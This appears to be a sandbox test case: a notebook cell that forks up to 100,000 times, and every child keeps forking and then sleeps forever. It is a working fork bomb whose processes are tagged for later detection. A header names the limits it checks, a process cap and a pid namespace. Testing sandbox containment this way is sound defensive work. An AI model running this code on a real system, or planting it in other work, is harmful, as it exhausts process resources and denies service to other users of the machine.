# about: the solved notebook, then a cell that forks until the system refuses; every child forks
#   on and then sleeps forever (a fork bomb that leaves its processes behind)
# base: solved
# defence: RLIMIT_NPROC, and the pid namespace kills every process at the end
# keeps: all
# --- cell
import ctypes
import os
import time

children = 0
for _ in range(100_000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        ctypes.CDLL(None).prctl(15, b"pkattack-fork", 0, 0, 0)  # PR_SET_NAME: findable later
        try:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1000)
        finally:
            os._exit(0)
    children += 1
